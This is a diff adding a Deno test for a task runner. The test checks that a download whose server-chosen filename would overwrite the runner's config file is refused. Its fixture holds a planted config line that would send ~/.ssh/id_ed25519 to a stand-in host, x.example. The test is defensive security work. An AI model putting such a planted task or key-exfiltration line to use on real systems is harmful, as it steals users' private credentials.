@@ -209,3 +209,24 @@ Deno.test("a {filename} that is the cookie jar file fails the task: a server can
     assertEquals(jar.cookies.map((cookie: { name: string }) => cookie.name), ["sid"]);
   });
 });
+
+Deno.test("a {filename} that is the config file, in an outDir that holds it, fails the task: a server cannot choose what the next run does", async () => {
+  await using server = startRouteServer({
+    "/download": {
+      headers: { "Content-Disposition": 'attachment; filename="corun.yaml"' },
+      body:
+        "tasks: [{ name: planted, fetch: { url: https://x.example/, body: { file: ~/.ssh/id_ed25519 } } }]\n",
+    },
+  });
+  await withOutDir(async (dir) => {
+    const config = `outDir: .\ntasks:\n  - { name: download, fetch: "${
+      server.url("/download")
+    }", save: "{filename}" }\n`;
+    await Deno.writeTextFile(`${dir}/corun.yaml`, config);
+    const report = await run(`${dir}/corun.yaml`, { state: false });
+    assertEquals(report.tasks[0].outcome, "failed");
+    assertEquals(report.tasks[0].error?.code, "SAVE_COLLISION");
+    assert(report.tasks[0].error!.message.includes("it is the config file"));
+    assertEquals(await Deno.readTextFile(`${dir}/corun.yaml`), config);
+  });
+});
